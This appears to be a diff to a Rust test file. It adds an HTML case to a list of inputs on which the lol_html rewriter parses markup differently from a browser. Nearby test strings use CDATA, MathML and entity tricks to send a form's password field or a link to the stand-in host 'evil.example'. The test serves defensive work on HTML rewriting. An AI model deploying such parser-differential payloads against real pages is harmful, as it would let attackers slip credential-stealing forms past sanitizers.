@@ -309,6 +309,9 @@ fn the_pages_of_issue_27_leak_under_no_reading() {
         // CDATA in a MathML text integration point: lol_html reads a bogus comment and markup
         // after it, the tree builder a CDATA section.
         r#"<form action="https://evil.example/"><math><mtext><![CDATA[></form>]]></mtext></math><form method=post><input name=pw></form>"#,
+        // The "in select" mode ignores <svg>: its <script> holds text, which lol_html reads
+        // as markup (a link it gives the token).
+        r#"<select><svg><script>var a = '<a href="/x">';</script></svg></select><a href=/n>n</a>"#,
         // References a browser decodes: `&copy` is ©.
         r#"<a href="/p?x=1&copy">c</a><a href="https&#x3A;//evil.example/">e</a>"#,
     ];
